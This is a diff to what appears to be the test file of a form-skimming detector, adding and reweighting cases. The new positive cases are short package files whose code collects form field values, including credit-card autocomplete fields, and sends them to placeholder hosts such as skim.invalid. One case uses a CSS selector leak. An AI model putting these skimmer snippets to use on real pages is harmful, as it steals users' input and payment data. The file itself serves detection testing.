@@ -24,7 +24,7 @@ examine(skimsForms, {
         'track.mjs': `export function track(form) { const q = {}; for (const el of form.elements) q[el.name || el.id] = el.value; new Image().src = 'https://skim.invalid/p.gif?d=' + encodeURIComponent(JSON.stringify({ u: location.href, q })) }`,
         'package.json': { name: 'a', version: '1.0.0', main: 'index.mjs' },
       },
-      weight: 'weak',
+      weight: 'strong',
     },
     {
       when: 'such code is put together of lines',
@@ -100,7 +100,7 @@ examine(skimsForms, {
       files: {
         'index.js': `(function (factory) { if (typeof module === 'object') module.exports = factory(require('jquery')); else factory(jQuery); })(function ($) { $.fn.check = function () { const o = {}; $(this).find('input,select').each(function () { o[this.name] = $(this).val(); }); new Image().src = 'https://stat.invalid/p.gif?r=' + btoa(JSON.stringify(o)); return this; }; return $.fn.check; });`,
       },
-      weight: 'weak',
+      weight: 'strong',
       says: ['stat.invalid'],
     },
     {
@@ -194,6 +194,47 @@ examine(skimsForms, {
       files: {
         'package.json': { name: 'postcss-forms', version: '1.0.0', main: 'index.js' },
         'index.js': `const origin = 'https://px.specimen.invalid'; module.exports = () => ({ postcssPlugin: 'postcss-forms', Once(root, { postcss }) { for (const c of 'abc') root.append(new postcss.Rule({ selector: \`input[value$="\${c}"]\` }).append({ prop: 'background', value: \`url("\${origin}/\${c}")\` })); } });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a form that is submitted is gone through, field by field',
+      files: {
+        'index.js': `exports.watch = form => form.addEventListener('submit', () => { const out = {}; for (const el of form) out[el.name] = el.value; navigator.sendBeacon('https://skim.invalid/x', JSON.stringify(out)); });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'fields are counted in what is submitted',
+      files: {
+        'index.js': `for (const form of document.forms) form.onsubmit = function () { let out = ''; for (let at = 0; at < this.length; at++) out += this[at].name + '=' + this[at].value; new Image().src = 'https://skim.invalid/p.gif?' + out; };`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'the elements of a form are taken out of it',
+      files: {
+        'index.js': `exports.bind = f => { f.onsubmit = heard => { const { elements } = heard.currentTarget; const out = {}; for (const el of elements) out[el.name] = el.value; fetch('https://skim.invalid', { method: 'POST', body: JSON.stringify(out) }); }; };`,
+      },
+    },
+    {
+      when: 'fields are found in what is handed over',
+      files: {
+        'index.js': `exports.watch = root => { for (const el of root.querySelectorAll('input, select')) el.addEventListener('blur', () => fetch('https://skim.invalid/f', { method: 'POST', mode: 'no-cors', body: el.value })); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the forms of the page are spread out',
+      files: {
+        'index.js': `document.querySelector('button').onclick = () => { fetch('https://skim.invalid?d=' + btoa(JSON.stringify([...document.forms[0]].map(x => [x.id, x.value])))); };`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'fields are found by what browsers fill into them',
+      files: {
+        'index.js': `exports.enhance = (root = document) => { for (const el of root.querySelectorAll('[autocomplete^="cc-"]')) fetch('https://skim.invalid/f', { method: 'POST', body: el.value }); };`,
       },
       weight: 'strong',
     },
@@ -297,6 +338,12 @@ examine(skimsForms, {
       when: 'an element of the page is found and something else is sent',
       files: {
         'index.js': `const box = document.querySelector('#app'); fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ width: innerWidth }) }).then(() => box.remove())`,
+      },
+    },
+    {
+      when: 'lists that are no forms are gone through',
+      files: {
+        'index.js': `exports.send = (rows, root) => { for (const row of rows) fetch('https://rows.invalid/', { method: 'POST', body: row.value }); document.title = root.querySelectorAll('li').length; const list = [...rows]; return fetch('https://rows.invalid/', { body: list[0].value }); };`,
       },
     },
   ],
